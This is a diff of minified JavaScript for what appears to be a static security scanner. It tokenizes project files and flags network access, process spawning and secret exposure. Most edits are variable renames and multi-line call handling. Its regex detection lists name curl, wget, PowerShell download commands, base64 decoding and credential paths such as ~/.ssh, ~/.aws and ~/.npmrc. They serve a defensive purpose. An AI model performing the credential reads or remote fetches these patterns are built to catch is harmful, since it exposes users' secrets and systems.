+charCodeAt(this.offset)===ZERO&&end>this.offset+1;if(!(end===this.offset||!isWhole3||leadsWithZero))return this.offset=end,value}#match(pattern){const start=this.
+offset;return pattern.lastIndex=start,pattern.test(this.#text)?(this.offset=pattern.lastIndex,this.#text.slice(start,this.offset)):""}#unexpected(wanted){const found12=this.#text.
+codePointAt(this.offset);return found12===void 0?new Unreadable(`${wanted}, but the file ends.`,this.offset):found12===BYTE_ORDER_MARK&&this.offset===0?new Unreadable(
+"The file begins with a byte order mark, which JSON doesn't allow: save it without.",0):new Unreadable(`${wanted}, but found ${JSON.stringify(String.fromCodePoint(
+found12))}.`,this.offset)}},BYTE_ORDER_MARK=65279,MOST_DIGITS=15,ENDS_NUMBER=new Set([",","]","}"," ",`
 `,"\r"]),JSON5_SPACE=/\s*/y,LINE_BREAK=/[\n\r\u2028\u2029]/g,WORD2=/[\w+.$-]*/y,JSON5_DOUBLE=/[^"\\\n\r]*/y,JSON5_SINGLE=/[^'\\\n\r]*/y,JSON_ESCAPE=/\\(?:["\\/bfnrt]|u[0-9a-fA-F]{4})/y,
 JSON5_ESCAPE=/\\(?:u[0-9a-fA-F]{4}|x[0-9a-fA-F]{2}|0(?!\d)|\r\n|[^ux\d])/uy,IDENTIFIER=/(?:[$\p{ID_Start}_]|\\u[0-9a-fA-F]{4})(?:[$\p{ID_Continue}\u200c\u200d]|\\u[0-9a-fA-F]{4}){0,1000}/uy,
 SURROGATE=/[\ud800-\udfff]|\\u[dD][89a-fA-F]/,UNICODE_ESCAPE=/\\u([0-9a-fA-F]{4})/g,CONTINUES=/[\n\r\u2028\u2029]/,ESCAPES2=new Map([["b","\b"],["f","\f"],["n",
@@ -3322,9 +3323,9 @@ values()]}function parsedConfig(file2){if(file2===void 0)return;const parsed10=f
 parsed10.value:void 0}function includesIn(config){return itemsOf(member(config,"include")).flatMap(item=>{const path=asString(item)??asString(member(item,"path"));
 return path===void 0?[]:[path]})}function isAmongMembers(folder,root,patterns3){return patterns3.some(pattern=>{const path=joined(root,pattern);return path!==null&&
 matches(partsOf2(folder),partsOf2(path))})}function startsWithFolder(folder,root,named12){const path=joined(root,named12);return path===""||path!==null&&(folder===
-path||folder.startsWith(`${path}/`))}function partsOf2(path){return path===""?[]:path.split("/")}function matches(parts,pattern){let reached5=new Set([0]);for(const expected of pattern){
-const next2=new Set;for(const at2 of reached5)if(expected==="**")for(let end=at2;end<=parts.length;end+=1)next2.add(end);else at2<parts.length&&isWildly(parts[at2]??
-"",expected)&&next2.add(at2+1);reached5=next2}return reached5.has(parts.length)}function isWildly(part,pattern){return/[*?[]/.test(pattern)?pattern.includes("[")?
+path||folder.startsWith(`${path}/`))}function partsOf2(path){return path===""?[]:path.split("/")}function matches(parts2,pattern){let reached5=new Set([0]);for(const expected of pattern){
+const next2=new Set;for(const at2 of reached5)if(expected==="**")for(let end=at2;end<=parts2.length;end+=1)next2.add(end);else at2<parts2.length&&isWildly(parts2[at2]??
+"",expected)&&next2.add(at2+1);reached5=next2}return reached5.has(parts2.length)}function isWildly(part,pattern){return/[*?[]/.test(pattern)?pattern.includes("[")?
 !0:star(part,pattern):part===pattern}function star(text3,pattern){let[at2,expected,lastStar,restart]=[0,0,-1,0];for(;at2<text3.length;)if(pattern[expected]==="*")
 lastStar=expected,restart=at2,expected+=1;else if(pattern[expected]==="?"||pattern[expected]===text3[at2])at2+=1,expected+=1;else if(lastStar>=0)restart+=1,at2=
 restart,expected=lastStar+1;else return!1;for(;pattern[expected]==="*";)expected+=1;return expected===pattern.length}function cargoWorkspace(folder,files){const ofFiles=found.
@@ -3411,11 +3412,11 @@ text3)?.[0].length??0,tokens,0);return end===text3.length?tokens:end<0?-1-end:en
 (at2=Math.max(at2,endOf2(BLANK,text3,at2)),!(at2>=text3.length));){const first=text3[at2]??"";if(tokens.length>MOST_TOKENS4||depth>DEEPEST5)return-1-at2;if(first===
 "`"){if(at2=template(text3,at2,tokens,depth),at2<0)return at2;continue}if(first==="}"&&braces===0)return depth>0?at2:-1-at2;(first==="{"||first==="}")&&(braces+=
 first==="{"?1:-1);const token2=tokenAt2(text3,at2,tokens.at(-1));if(token2===void 0)return-1-at2;tokens.push(token2),at2=token2.end}return depth>0?-1-at2:text3.
-length}function tokenAt2(text3,at2,before2){const first=text3[at2]??"";if("([{".includes(first))return{kind:"open",text:first,start:at2,end:at2+1};if(")]}".includes(
-first))return{kind:"close",text:first,start:at2,end:at2+1};if(first==="/"&&mayBeginRegex(before2))return plain4("regex",REGEX,text3,at2);const literal3=plain4("\
+length}function tokenAt2(text3,at2,before3){const first=text3[at2]??"";if("([{".includes(first))return{kind:"open",text:first,start:at2,end:at2+1};if(")]}".includes(
+first))return{kind:"close",text:first,start:at2,end:at2+1};if(first==="/"&&mayBeginRegex(before3))return plain4("regex",REGEX,text3,at2);const literal3=plain4("\
 text",TEXT,text3,at2);return literal3!==void 0?{...literal3,text:meaning(literal3.text.slice(1,-1))}:plain4("word",WORD3,text3,at2)??plain4("number",NUMBER2,text3,
-at2)??plain4("mark",MARK2,text3,at2)}function mayBeginRegex(before2){return before2===void 0||before2.kind==="mark"||before2.kind==="open"?!0:before2.kind==="cl\
-ose"?before2.text==="}":before2.kind==="word"&&/^(?:await|case|do|else|in|of|return|throw|typeof|void|yield)$/.test(before2.text)}function template(text3,start,tokens,depth){
+at2)??plain4("mark",MARK2,text3,at2)}function mayBeginRegex(before3){return before3===void 0||before3.kind==="mark"||before3.kind==="open"?!0:before3.kind==="cl\
+ose"?before3.text==="}":before3.kind==="word"&&/^(?:await|case|do|else|in|of|return|throw|typeof|void|yield)$/.test(before3.text)}function template(text3,start,tokens,depth){
 const stop=/[`\\]|\$\{/g;let from=start+1;stop.lastIndex=from;for(let found12=stop.exec(text3);found12!==null;found12=stop.exec(text3)){if(found12[0]==="\\"){stop.
 lastIndex+=1;continue}if(tokens.push({kind:"text",text:meaning(text3.slice(from,found12.index)),start:from-1,end:found12.index+1}),found12[0]==="`")return found12.
 index+1;const at2=found12.index+2;tokens.push({kind:"mark",text:"$",start:found12.index,end:at2});const end=scan2(text3,at2,tokens,depth+1);if(end<0)return end;
@@ -3423,8 +3424,8 @@ tokens.push({kind:"mark",text:"}$",start:end,end:end+1}),from=end+1,stop.lastInd
 (_3,long,short2,byte,letter)=>{const digits2=long??short2??byte;if(digits2===void 0)return{n:`
 `,r:"\r",t:"	"}[letter]??letter??"";const value=Number.parseInt(digits2,16);return value<=1114111?String.fromCodePoint(value):"\uFFFD"})}function plain4(kind,pattern,text3,at2){
 const end=endOf2(pattern,text3,at2);return end<0?void 0:{kind,text:text3.slice(at2,end),start:at2,end}}function endOf2(pattern,text3,at2){return pattern.lastIndex=
-at2,pattern.test(text3)?pattern.lastIndex:-1}function isMember2(before2){return before2?.text==="."||before2?.text==="?."}function isKey(before2,next2){return next2?.
-text===":"&&(before2?.text==="{"||before2?.text===",")}var SECRET_BEGINNING=/^(?:|T(?:A(?:U(?:R(?:I(?:_(?:(?:S|P)\w*)?)?)?)?)?)?)$/;function bundledGrants(file2){
+at2,pattern.test(text3)?pattern.lastIndex:-1}function isMember2(before3){return before3?.text==="."||before3?.text==="?."}function isKey(before3,next2){return next2?.
+text===":"&&(before3?.text==="{"||before3?.text===",")}var SECRET_BEGINNING=/^(?:|T(?:A(?:U(?:R(?:I(?:_(?:(?:S|P)\w*)?)?)?)?)?)?)$/;function bundledGrants(file2){
 const secret=[...prefixesIn(file2),...environmentIn(file2)].filter(({beginning:beginning2})=>beginning2!==null&&SECRET_BEGINNING.test(beginning2)),placeAt=placesIn(
 file2);return secret.map(({text:text3,start})=>({domain:"steps",rule:"build/secrets-bundled",act:text3.replace(/\s+/g,""),machine:"builder",by:(0,import_shared_acegpst.code)(
 file2.path),entry:"",text:text3,class:"reaches",secrets:["TAURI_SIGNING_PRIVATE_KEY","TAURI_SIGNING_PRIVATE_KEY_PASSWORD"],at:placeAt(start,start)}))}function bundledGaps(file2){
@@ -3447,9 +3448,9 @@ read2=new WeakMap;function tokensOf(file2){const known13=read2.get(file2);if(kno
 "number"?[]:tokens;return read2.set(file2,found12),found12}var BUNDLERS=/^(?:(?:vite|svelte|astro|next|nuxt|webpack|rollup|rspack|rsbuild|rolldown|esbuild|postcss|tailwind|babel|vue|craco|uno|quasar)\.config|\.(?:postcss|babel)rc)\.[cm]?[jt]s$/,
 SETTINGS_NAME=/(?:^|\/)(?:[\w-]+\.config|\.(?:postcss|babel)rc)\.[cm]?[jt]s$/;function isBundler(path,app){return BUNDLERS.test(baseName(path))&&isOfFrontend(path,
 app)}function isOfFrontend(path,{root}){const above=withAncestors(root);return above.includes(folderOf(path))||above.includes(folderOf(folderOf(path)))}function mergePatch(target,patch){
-if(patch.kind!=="object")return patch;const before2=target?.kind==="object"?target:void 0,entries=new Map(before2?.entries),removed=new Map(before2?.removed);for(const[
+if(patch.kind!=="object")return patch;const before3=target?.kind==="object"?target:void 0,entries=new Map(before3?.entries),removed=new Map(before3?.removed);for(const[
 name,{key:key3,value}]of patch.entries)value.kind!=="null"?(entries.set(name,{key:key3,value:mergePatch(entries.get(name)?.value,value)}),removed.delete(name)):
-entries.delete(name)&&removed.set(name,value.at);const beside=before2===void 0?[]:[...before2.beside??[],patch.at];return{kind:"object",entries,at:before2?.at??
+entries.delete(name)&&removed.set(name,value.at);const beside=before3===void 0?[]:[...before3.beside??[],patch.at];return{kind:"object",entries,at:before3?.at??
 patch.at,removed,beside}}function joinPatches(target,patch){if(patch.kind!=="object")return patch;const entries=new Map(target?.kind==="object"?target.entries:[]);
 for(const[name,{key:key3,value}]of patch.entries)entries.set(name,{key:key3,value:joinPatches(entries.get(name)?.value,value)});return{kind:"object",entries,at:target?.
 kind==="object"?target.at:patch.at}}function parseLayer({file:file2,inline}){return inline?parseJson(file2,"json"):file2.path.endsWith(".toml")?parseToml(file2):
@@ -3559,8 +3560,8 @@ ODD=/^(?:async_hooks|diagnostics_channel|domain|module|repl|test|trace_events|v8
 "");if(/^\.{0,2}\/|^\.{1,2}$/.test(name))return name.endsWith(".node")?"reaches":void 0;if(NETWORK2.test(plain8)||REACHING3.test(plain8))return"reaches";if(!PLAIN3.
 test(plain8))return ODD.test(plain8)||!QUIET.test(name)?"unknown":void 0}var QUIET=/^(?:semver|chalk|picocolors|kleur|ansi-colors|detect-libc|minimist|napi-build-utils)$/;
 function isOfNode(name){const plain8=name.replace(/^node:/,"");return PLAIN3.test(plain8)||NETWORK2.test(plain8)||REACHING3.test(plain8)||ODD.test(plain8)}var WRITING=/^(?:appendFile|chmod|chown|copyFile|cp|createWriteStream|fchmod|fchown|lchmod|lchown|link|mkdir|mkdtemp|open|rename|rm|rmdir|symlink|truncate|unlink|utimes|writeFile|write)(?:Sync)?$/;
-function isFs(tokens,at2,held3){const[before2,owner]=[tokens[at2-1],tokens[at2-2]?.text??""],isCommon=/^(?:cp|link|mkdir|open|rename|rm|truncate|write)$/.test(tokens[at2]?.
-text??"");return isMember2(before2)?!isCommon||owner==="promises"||owner===")"||(held3.get(owner)??"").startsWith("fs"):!isCommon&&before2?.text!=="function"}function isRenamed(tokens,at2){
+function isFs(tokens,at2,held3){const[before3,owner]=[tokens[at2-1],tokens[at2-2]?.text??""],isCommon=/^(?:cp|link|mkdir|open|rename|rm|truncate|write)$/.test(tokens[at2]?.
+text??"");return isMember2(before3)?!isCommon||owner==="promises"||owner===")"||(held3.get(owner)??"").startsWith("fs"):!isCommon&&before3?.text!=="function"}function isRenamed(tokens,at2){
 return WRITING.test(tokens[at2]?.text??"")&&/^(?::|as)$/.test(tokens[at2+1]?.text??"")&&!isMember2(tokens[at2-1])}var LONGEST_PATH3=60;function writtenAt(tokens,at2){
 if(/^[fl]?ch(?:mod|own)|link/.test(tokens[at2]?.text??""))return"reaches";const[first,second]=[tokens[at2+2],tokens[at2+4]],isOwn6=first?.text==="__dirname"||/^(?:join|resolve)$/.
 test(second?.text??"")&&tokens[at2+6]?.text==="__dirname",given2=tokens.slice(at2,at2+LONGEST_PATH3),end=given2.findIndex(({text:text3})=>text3===")"),leaves2=given2.
@@ -3569,10 +3570,10 @@ const tokens=jsTokens(text3);if(typeof tokens=="number")return{evidence:[{class:
 tokens);for(const[at2,token2]of tokens.entries()){const seen=classAt2(tokens,at2,held3);seen!==void 0&&evidence2.push({class:seen,path,offset:token2.start});const name=askedAt(
 tokens,at2);if(name!==void 0)if(name===null)evidence2.push({class:"unknown",path,offset:token2.start});else if(/^\.{0,2}\/|^\.{1,2}$/.test(name)&&!name.endsWith(
 ".node"))asked4.push({name,offset:token2.start});else{const known13=classOfModule(name);known13!==void 0&&evidence2.push({class:known13,path,offset:token2.start})}}
-return{evidence:evidence2,asked:asked4}}function askedAt(tokens,at2){const[before2,token2,next2,inside,after2]=[at2-1,at2,at2+1,at2+2,at2+3].map(index=>tokens[index]);
-return token2?.kind!=="word"?void 0:isMember2(before2)?token2.text!=="require"?void 0:next2?.text==="("&&inside?.kind==="text"?inside.text:null:FROM.test(token2.
+return{evidence:evidence2,asked:asked4}}function askedAt(tokens,at2){const[before3,token2,next2,inside,after2]=[at2-1,at2,at2+1,at2+2,at2+3].map(index=>tokens[index]);
+return token2?.kind!=="word"?void 0:isMember2(before3)?token2.text!=="require"?void 0:next2?.text==="("&&inside?.kind==="text"?inside.text:null:FROM.test(token2.
 text)&&next2?.kind==="text"?next2.text:ASKING.test(token2.text)?next2?.text==="("?inside?.kind==="text"&&(after2?.text===")"||after2?.text===",")?inside.text:null:
-before2?.text==="typeof"||next2?.text==="."&&/^(?:main|resolve)$/.test(inside?.text??"")||FROM.test(token2.text)?void 0:null:void 0}var ASKING=/^(?:import|require)$/,
+before3?.text==="typeof"||next2?.text==="."&&/^(?:main|resolve)$/.test(inside?.text??"")||FROM.test(token2.text)?void 0:null:void 0}var ASKING=/^(?:import|require)$/,
 FROM=/^(?:from|import)$/;function namesOfModules(tokens){const held3=new Map([["process","process"],["module","module"]]);for(const[at2,token2]of tokens.entries()){
 const[equals,asks,open,name]=[tokens[at2+1],tokens[at2+2],tokens[at2+3],tokens[at2+4]];token2.kind==="word"&&equals?.text==="="&&asks?.text==="require"&&open?.text===
 "("&&name?.kind==="text"&&isOfNode(name.text)&&held3.set(token2.text,plain5(name.text));const isEnvironment=tokens.slice(at2+1,at2+5).map(({text:text3})=>text3).
@@ -3580,14 +3581,14 @@ join("")==="=process.env";token2.kind==="word"&&isEnvironment&&tokens[at2+5]?.te
 m"&&asks?.kind==="text"&&isOfNode(asks.text)&&held3.set(token2.text,plain5(asks.text))}return held3}function plain5(name){return name.replace(/^node:/,"")}var REACHING4=/^(?:atob|btoa|eval|EventSource|execScript|fetch|fromCharCode|fromCodePoint|Function|importScripts|sendBeacon|unescape|WebAssembly|WebSocket|XMLHttpRequest)$/,
 HIDING2=/^(?:__defineGetter__|__lookupGetter__|__proto__|_load|binding|_linkedBinding|createRequire|dlopen|getBuiltinModule|getOwnPropertyNames|global|globalThis|mainModule|Proxy|Reflect|with)$/,
 PROCESS=/^(?:arch|argv|config|cwd|emitWarning|env|execPath|exit|exitCode|features|hrtime|memoryUsage|nextTick|off|on|once|pid|platform|ppid|release|stderr|stdout|title|umask|uptime|version|versions)$/,
-OS2=/^(?:homedir|hostname|networkInterfaces|tmpdir|userInfo)$/;function classAt2(tokens,at2,held3){const[before2,token2,next2]=[tokens[at2-1],tokens[at2],tokens[at2+
+OS2=/^(?:homedir|hostname|networkInterfaces|tmpdir|userInfo)$/;function classAt2(tokens,at2,held3){const[before3,token2,next2]=[tokens[at2-1],tokens[at2],tokens[at2+
 1]];if(token2===void 0)return;if(token2.kind==="text")return classOfText(tokens,at2);if(token2.kind==="open")return token2.text==="["&&isComputed(tokens,at2)?"u\
-nknown":void 0;if(token2.kind!=="word")return;const{text:text3}=token2;if(text3.includes("\\"))return"unknown";if(REACHING4.test(text3))return isKey(before2,next2)||
-before2?.text==="instanceof"?void 0:"reaches";if(HIDING2.test(text3))return isKey(before2,next2)?void 0:"unknown";if(text3==="arguments")return next2?.text==="."&&
-tokens[at2+2]?.text==="length"?void 0:"unknown";if(isRenamed(tokens,at2))return"unknown";if(text3==="constructor")return isMember2(before2)?"unknown":void 0;if(WRITING.
+nknown":void 0;if(token2.kind!=="word")return;const{text:text3}=token2;if(text3.includes("\\"))return"unknown";if(REACHING4.test(text3))return isKey(before3,next2)||
+before3?.text==="instanceof"?void 0:"reaches";if(HIDING2.test(text3))return isKey(before3,next2)?void 0:"unknown";if(text3==="arguments")return next2?.text==="."&&
+tokens[at2+2]?.text==="length"?void 0:"unknown";if(isRenamed(tokens,at2))return"unknown";if(text3==="constructor")return isMember2(before3)?"unknown":void 0;if(WRITING.
 test(text3)&&next2?.text==="("&&isFs(tokens,at2,held3))return writtenAt(tokens,at2);if(OS2.test(text3)&&next2?.text==="(")return text3==="tmpdir"?"unknown":"rea\
-ches";const module2=isMember2(before2)||isKey(before2,next2)?void 0:held3.get(text3);return module2===void 0?void 0:classOfUse(tokens,at2,module2)}function classOfUse(tokens,at2,module2){
-const[before2,next2,name]=[tokens[at2-1],tokens[at2+1],tokens[at2+2]];if(next2?.text==="="||next2?.text==="from"||before2?.text==="typeof")return;if(module2==="\
+ches";const module2=isMember2(before3)||isKey(before3,next2)?void 0:held3.get(text3);return module2===void 0?void 0:classOfUse(tokens,at2,module2)}function classOfUse(tokens,at2,module2){
+const[before3,next2,name]=[tokens[at2-1],tokens[at2+1],tokens[at2+2]];if(next2?.text==="="||next2?.text==="from"||before3?.text==="typeof")return;if(module2==="\
 env")return classOfSetting(tokens,at2+1);if(next2?.text!=="."&&next2?.text!=="?.")return"unknown";if(module2==="module")return/^(?:exports|filename|id|parent|require)$/.
 test(name?.text??"")?void 0:"unknown";const isValue2=WRITING.test(name?.text??"")&&tokens[at2+3]?.text!=="(";return module2!=="process"?isValue2?"unknown":void 0:
 name?.text==="env"?classOfSetting(tokens,at2+3):PROCESS.test(name?.text??"")?void 0:"unknown"}function classOfSetting(tokens,at2){const[next2,name,close]=[tokens[at2],
@@ -3596,8 +3597,8 @@ text==="="))return next2?.text!=="["?"reaches":name?.kind!=="text"||close?.text!
 const text3=tokens[at2]?.text??"";if(isSecretPath(text3))return"reaches";if(/^(?:base64|base64url|hex|latin1|binary)$/.test(text3))return tokens[at2-1]?.text===
 ","?"reaches":void 0;if(/^(?:constructor|__proto__|child_process)$/.test(text3)&&tokens[at2-1]?.text!=="(")return"unknown";const joined9=tokens[at2+1]?.text==="\
 +"&&tokens[at2+2]?.kind==="text"?text3+(tokens[at2+2]?.text??""):"";return/^(?:\w+:)?(?:child_process|https?|net|vm|constructor|eval|fetch|require|process|writeFileSync|execSync|exec|spawn)$/.
-test(joined9)?"reaches":void 0}var BEFORE_LISTS=/^(?:await|case|const|else|in|let|new|of|return|typeof|var|yield)$/;function isComputed(tokens,open){const before2=tokens[open-
-1];if(!(before2?.kind==="word"?!BEFORE_LISTS.test(before2.text):/^(?:close|text|regex)$/.test(before2?.kind??"")))return!1;const[inside,close]=[tokens[open+1],tokens[open+
+test(joined9)?"reaches":void 0}var BEFORE_LISTS=/^(?:await|case|const|else|in|let|new|of|return|typeof|var|yield)$/;function isComputed(tokens,open){const before3=tokens[open-
+1];if(!(before3?.kind==="word"?!BEFORE_LISTS.test(before3.text):/^(?:close|text|regex)$/.test(before3?.kind??"")))return!1;const[inside,close]=[tokens[open+1],tokens[open+
 2]];return!((inside?.kind==="number"||inside?.kind==="text")&&close?.text==="]")}var ADDRESS2=/^[a-z]+:\/\/[^/\s"'`]+|\b(?:curl|wget|base64|powershell|iwr)\b/i;
 function ownJs(path,text3){const tokens=jsTokens(text3);if(typeof tokens=="number")return{acts:[{act:"",class:"unknown",path,offset:tokens}],asked:[],started:[],
 packages:[],code:text3,unread:tokens};const reading=jsCode(path,text3),bound=boundNames(tokens),byStart=new Map(tokens.map((token2,at2)=>[token2.start,at2])),acts=[];
@@ -3618,9 +3619,9 @@ if(word2===void 0||/^(?:import|const|let|var)$/.test(word2.text)||word2.text==="
 text)&&bound.set(word2.text,module2)}}for(const[at2,token2]of tokens.entries()){const module2=token2.kind==="word"?bound.get(token2.text):void 0,name=module2===
 void 0?void 0:aliasAt(tokens,at2);module2!==void 0&&name!==void 0&&bound.set(name,module2)}return bound}var NEAR=8;function aliasAt(tokens,at2){const member2=tokens[at2+
 1]?.text==="."?at2+2:at2;if(tokens[member2+1]?.text!=="(")for(let i2=at2-1;i2>0&&i2>at2-NEAR;i2-=1){const text3=tokens[i2]?.text??"";if(/^(?:;|\{|\}|=>|from|import)$/.
-test(text3))return;if(text3==="=")return tokens[i2-1]?.kind==="word"?tokens[i2-1]?.text:void 0}}function isUse(tokens,at2,bound){const[before2,token2,next2]=[tokens[at2-
-1],tokens[at2],tokens[at2+1]];return token2?.kind!=="word"||!bound.has(token2.text)||isMember2(before2)?!1:next2?.text==="("||next2?.text==="."||next2?.text==="\
-["||next2?.kind==="text"&&!/^import$/.test(before2?.text??"")}var PLAINLY_MODULE=/^(?:node:.+|child_process|worker_threads)$/,STARTS=/^(?:child_process|cross-spawn|execa|shelljs|zx)$/;
+test(text3))return;if(text3==="=")return tokens[i2-1]?.kind==="word"?tokens[i2-1]?.text:void 0}}function isUse(tokens,at2,bound){const[before3,token2,next2]=[tokens[at2-
+1],tokens[at2],tokens[at2+1]];return token2?.kind!=="word"||!bound.has(token2.text)||isMember2(before3)?!1:next2?.text==="("||next2?.text==="."||next2?.text==="\
+["||next2?.kind==="text"&&!/^import$/.test(before3?.text??"")}var PLAINLY_MODULE=/^(?:node:.+|child_process|worker_threads)$/,STARTS=/^(?:child_process|cross-spawn|execa|shelljs|zx)$/;
 function classOfCall(act,module2){if(!STARTS.test(module2))return"reaches";const command2=commandIn(act);return command2!==""&&commandLineClass(command2)==="rea\
 ches"?"reaches":/^[\w.$]*\(["`]/.test(withoutAsking(act))?"probe":"unknown"}function commandIn(call2){return textsIn(withoutAsking(call2))}function withoutAsking(call2){
 return call2.replace(/^(?:(?:require|import)\("[^"]*"\)|[\w.$)]*\("(?:node:[\w/]+|child_process|worker_threads)"\))+/,"")}function usedAtOnce(tokens,at2){const[
@@ -3631,22 +3632,25 @@ if(token2===void 0)return!0;if(WRITING.test(token2.text)||/^(?:from|import|requi
 token2.text)){const line=text3.slice(text3.lastIndexOf(`
 `,token2.start)+1,token2.start+120).split(`
 `,1)[0]??"";return/\benv(?:\.|\[["'])\w/.test(line)||/stringify|Object\.(?:entries|values)|fetch|body/.test(line)}return!0}function packagesIn(tokens){return tokens.
-flatMap(({kind,text:text3},at2)=>kind==="text"&&isAsked(tokens,at2)&&/^[@a-z]/i.test(text3)?[text3]:[])}function isAsked(tokens,at2){const[before2="",open=""]=[
-tokens[at2-1]?.text,tokens[at2-2]?.text];return/^(?:from|import)$/.test(before2)||before2==="("&&/^(?:require|import)$/.test(open)}var REACHING5=/\b(?:urllib|urlopen|urlretrieve|requests\.\w|(?:from|import) requests|httpx|aiohttp|http\.client|sockets?\b|open_connection|ftplib|smtplib|paramiko|Net::|open-uri|URI\.open|LWP|curl_exec|fsockopen|b64decode|base64|Base64|fromhex|marshal|pickle|importlib|__import__|ctypes|builtins|os\.environ\.copy|instance_eval|expanduser|Path\.home|keyring|curl|wget|iwr|Invoke-WebRequest|Invoke-Expression)\b|\b(?:exec|eval|compile|getattr|loadstring)\s*\(|file_get_contents\s*\(\s*["']https?:|\bos\.environ\b(?!\s*(?:\[|\.(?:get|setdefault|pop)\b))|\/\.(?:ssh|aws|npmrc|netrc|gnupg)\b/,
+flatMap(({kind,text:text3},at2)=>kind==="text"&&isAsked(tokens,at2)&&/^[@a-z]/i.test(text3)?[text3]:[])}function isAsked(tokens,at2){const[before3="",open=""]=[
+tokens[at2-1]?.text,tokens[at2-2]?.text];return/^(?:from|import)$/.test(before3)||before3==="("&&/^(?:require|import)$/.test(open)}var REACHING5=/\b(?:urllib|urlopen|urlretrieve|requests\.\w|(?:from|import) requests|httpx|aiohttp|http\.client|sockets?\b|open_connection|ftplib|smtplib|paramiko|Net::|open-uri|URI\.open|LWP|curl_exec|fsockopen|b64decode|base64|Base64|fromhex|marshal|pickle|importlib|__import__|ctypes|builtins|os\.environ\.copy|instance_eval|expanduser|Path\.home|keyring|curl|wget|iwr|Invoke-WebRequest|Invoke-Expression)\b|\b(?:exec|eval|compile|getattr|loadstring)\s*\(|file_get_contents\s*\(\s*["']https?:|\bos\.environ\b(?!\s*(?:\[|\.(?:get|setdefault|pop)\b))|\/\.(?:ssh|aws|npmrc|netrc|gnupg)\b/,
 STARTS2=/\b(?:subprocess\.\w+|os\.(?:system|popen|exec\w*|spawn\w*)|system|popen|shell_exec|Open3\.\w+|spawn|io\.popen|os\.execute)\s*\(/;function isComment2(line,path){
-return(path.endsWith(".lua")?/^\s*--/:path.endsWith(".php")?/^\s*(?:#|\/\/)/:/^\s*#/).test(line)}function ownLines(path,text3){const acts=[];let offset=0;for(const line of text3.
+return(path.endsWith(".lua")?/^\s*--/:path.endsWith(".php")?/^\s*(?:#|\/\/)/:/^\s*#/).test(line)}function ownLines(path,text3){const acts=[];let offset=0;const lines2=text3.
 split(`
-`)){const plain8=isComment2(line,path)?"":line.replace(/^([^"'`]*\s)#\s.*$/,"$1");(REACHING5.test(plain8)||STARTS2.test(plain8)&&commandLineClass(textsIn(plain8))===
-"reaches")&&acts.push({act:plain8.replace(/\s+/g," ").trim(),class:"reaches",path,offset}),offset+=line.length+1}return acts}function ownLinesCode(text3){return text3.
-split(`
+`),plain8=lines2.map(line=>isComment2(line,path)?"":line.replace(/^([^"'`]*\s)#\s.*$/,"$1"));for(const[i2,line]of lines2.entries()){const call2=callAt(i2,plain8);
+(REACHING5.test(call2)||STARTS2.test(call2)&&commandLineClass(textsOf2(call2))==="reaches")&&acts.push({act:withoutLayout(call2),class:"reaches",path,offset}),offset+=
+line.length+1}return acts}var MOST_LINES3=12;function callAt(start,lines2){const line=lines2[start]??"";if(!STARTS2.test(line))return line;const all=lines2.slice(
+start,start+MOST_LINES3),end=all.findIndex(each=>/\)[\s;,]*$/.test(each.slice(-LONGEST_END)));return all.slice(0,end<0?1:end+1).join(`
+`)}var LONGEST_END=40;function withoutLayout(call2){return call2.replace(/\s+/g," ").replace(/ ?([()[\]]) ?/g,"$1").replace(/,(?=[)\]])/g,"").trim()}function ownLinesCode(text3){
+return text3.split(`
 `).map(line=>line.replace(/^\s*#.*$/,"").trim()).filter(line=>line!=="").join(`
-`)}function commandsOfLines(text3){return text3.split(`
-`).flatMap(line=>STARTS2.test(line)?[textsIn(line.replaceAll("'",'"'))]:[])}var INTERPRETER=/^(?:.*[\\/])?(?:node|nodejs|bun|deno|tsx|ts-node|python3?|py|ruby|perl|php|osascript)(?:\.exe)?$/,
+`)}function commandsOfLines(text3){const lines2=text3.split(`
+`);return lines2.flatMap((line,i2)=>STARTS2.test(line)?[textsOf2(callAt(i2,lines2))]:[])}function textsOf2(call2){return textsIn(call2.replaceAll("'",'"'))}var INTERPRETER=/^(?:.*[\\/])?(?:node|nodejs|bun|deno|tsx|ts-node|python3?|py|ruby|perl|php|osascript)(?:\.exe)?$/,
 TAKES_CODE=/^(?:-[a-zA-Z]*[ecpEr]|--eval|--print)$/;function inlineCode(words4){const at2=words4.findIndex(word2=>INTERPRETER.test(word2));if(at2<0)return;const behind2=words4.
 slice(at2+1),flag=behind2.findIndex(word2=>TAKES_CODE.test(word2)||word2==="eval");return behind2.find(word2=>/^--(?:eval|print)=/.test(word2))?.replace(/^--\w+=/,
 "")??(flag<0?void 0:behind2.slice(flag+1).find(word2=>!word2.startsWith("-")))}var STARTS3=/^(?:.*[\\/])?(?:(?:ba|da|z|k)?sh|pwsh|powershell|cmd|source|\.|call|sudo|exec|env|time|nice|nohup|command|xvfb-run|cross-env|node|bun|tsx|ts-node|python3?|ruby|perl|--)(?:\.exe)?$|^\w+=/i;
-function startsScript(words4,i2){const before2=words4.slice(0,i2).findLast(word2=>word2==="--"||!word2.startsWith("-"));return before2===void 0?i2===0:STARTS3.test(
-before2)}function startedWords(words4){return words4.filter((_3,i2)=>startsScript(words4,i2))}function shown({source,fedBy}){return(fedBy===null?source:`${fedBy}\
+function startsScript(words4,i2){const before3=words4.slice(0,i2).findLast(word2=>word2==="--"||!word2.startsWith("-"));return before3===void 0?i2===0:STARTS3.test(
+before3)}function startedWords(words4){return words4.filter((_3,i2)=>startsScript(words4,i2))}function shown({source,fedBy}){return(fedBy===null?source:`${fedBy}\
  | ${source}`).replace(/\s+/g," ").trim()}function actOf2(ran,{contents}){const[first=""]=ran.words;if(first===""||ran.isPutIn&&PLAIN.test(first))return;const words4=withoutManager(
 ran.words);if(PLAIN.test(programName(words4[0]??""))&&!tellsSecrets(ran))return;const named12=words4.map(word2=>isKnown(word2)&&/[./]/.test(word2)&&pathsIn(word2,
 ran.folders).some(path=>contents.isFile(path))?baseName(word2):word2);return JSON.stringify([named12,ran.fedBy===null?null:ran.fedBy.replace(/\s+/g," ").trim()])}
@@ -3664,33 +3668,64 @@ reaches";const programs4=[ran.words,...startedWords(ran.words).map(word2=>ran.wo
 word2)&&(i2===0||startedWords(ran.words).includes(word2)))||seen.includes("unknown")?"unknown":"probe"}function classOfCode(code2,words4){const{acts}=ownJs("",code2);
 if(acts.some(act=>act.class==="reaches"))return"reaches";const isReaching2=/\bsubprocess\b|\bos\.(?:system|popen)\b|\bsystem\b|\bexec\b/.test(code2),all=[code2,
 ...words4].join(`
-`);return isReaching2||ownLines("",all).length>0||/\w:\/\/(?!localhost)/.test(code2)?"reaches":"unknown"}var PROGRAMS=new Map([["tsc","typescript"],["svelte-kit",
